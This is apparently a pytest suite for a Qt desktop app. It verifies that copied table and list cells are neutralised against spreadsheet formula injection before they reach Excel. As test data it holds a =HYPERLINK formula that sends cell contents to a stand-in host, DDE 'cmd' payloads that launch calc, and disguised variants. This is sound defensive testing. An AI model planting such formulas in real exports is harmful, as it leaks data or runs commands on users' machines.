"""What is copied out of a list is pasted into Excel as what it is: no formula runs, ids and phones stay whole."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from PySide6.QtCore import QItemSelectionModel, QStringListModel, Qt
from PySide6.QtWidgets import QApplication, QComboBox, QListView, QListWidget, QTableView
from pytestqt.qtbot import QtBot

from app.text import UNSEEN, harmless
from tests.ui.conftest import WAIT
from tests.ui.sheets import HEADERS, rows
from ui.kit.copying import copies, copy_cells
from ui.program.program import Program
from ui.sheet.chosen import block_of

EVIL = '=HYPERLINK("http://host.example/?"&A1,"x")'


def pasted() -> list[list[str]]:
    """As a spreadsheet takes it."""
    return list(csv.reader(StringIO(QApplication.clipboard().text()), delimiter="\t"))


@pytest.mark.parametrize(
    ("cell", "copied"),
    [
        (EVIL, "'" + EVIL),
        ("@SUM(1)", "'@SUM(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("+66-81-234-5678", "'+66-81-234-5678"),
        ("0812345678", "0812345678"),
        ("+66812345678", "+66812345678"),
        ("+66 81 234 5678", "+66 81 234 5678"),
        ("-5", "-5"),
        ("-12.5", "-12.5"),
        ("-", "-"),
        ("–", "–"),
        ("1-xxxx-xxxx0-00-0", "1-xxxx-xxxx0-00-0"),
        ("ปกติ = ดี", "ปกติ = ดี"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_is_text(cell: str, copied: str) -> None:
    assert harmless(cell) == copied


def test_rows_stay_rows(qapp: QApplication) -> None:
    copy_cells([["a\nb", EVIL], ["c\td", "0812345678"]])
    assert pasted() == [["a b", "'" + EVIL], ["c d", "0812345678"]]


AWKWARD = ['"=1+1', '"', '""', 'a "b" c', '"x\ty', "\ufeff=1", "\ufeffนาง", "=1", "0812345678", "", "'ก", "''=1"]


@pytest.mark.parametrize("first", AWKWARD)
def test_rows_come_back_as_they_were(qapp: QApplication, first: str) -> None:
    """Also those with quotes, or with a mark of byte order at their begin."""
    cells = [[first, "1"], ["2", first], *([one, "x"] for one in AWKWARD)]
    copy_cells(cells)
    text = QApplication.clipboard().text()
    assert block_of(text) == [[one.replace("\t", " ") for one in row] for row in cells]
    assert not any(cell.lstrip(UNSEEN).startswith("=") for row in pasted() for cell in row), "nothing runs"


def test_the_clipboard_tells_excel_that_all_is_text(qapp: QApplication) -> None:
    copy_cells([[EVIL, "0812345678", "<b>&"]])
    html = QApplication.clipboard().mimeData().html()
    assert "<td>=" not in html
    assert "mso-number-format" in html
    assert "0812345678" in html
    assert "&lt;b&gt;&amp;" in html


def test_chosen_rows_of_the_sheet(program: Program, qtbot: QtBot) -> None:
    table = rows(3)
    table[1][1] = EVIL.replace('"', "")
    with qtbot.waitSignal(program.work.sheet.loaded, timeout=WAIT):
        program.work.sheet.paste("\n".join("\t".join(map(str, row)) for row in (HEADERS, *table)), "pasted")
    shown = program.pages.upload.table
    shown.selectAll()
    qtbot.keyClick(shown, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    cells = [cell for row in pasted() for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "@")) for cell in cells)


@pytest.mark.parametrize("view", [QTableView, QListView])
def test_every_list_copies_so(qapp: QApplication, qtbot: QtBot, view: type) -> None:
    shown = copies(view())
    qtbot.addWidget(shown)
    model = QStringListModel([EVIL, "b"])
    shown.setModel(model)
    shown.selectionModel().setCurrentIndex(model.index(0), QItemSelectionModel.SelectionFlag.SelectCurrent)
    qtbot.keyClick(shown, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert pasted() == [["'" + EVIL]]


def test_no_list_of_the_window_copies_otherwise(sample: Program, qtbot: QtBot) -> None:
    window = sample.window
    for page in ("book", "schedule", "person", "messages", "history", "help"):
        sample.pages.show(page)
    bare = [
        part.objectName() or type(part).__name__
        for kind in (QTableView, QListView, QListWidget)
        for part in window.findChildren(kind)
        if not part.property("copies") and not isinstance(part.window(), QComboBox)
        if part.parent() is None or part.parent().metaObject().className() != "QComboBoxPrivateContainer"
    ]
    assert bare == []
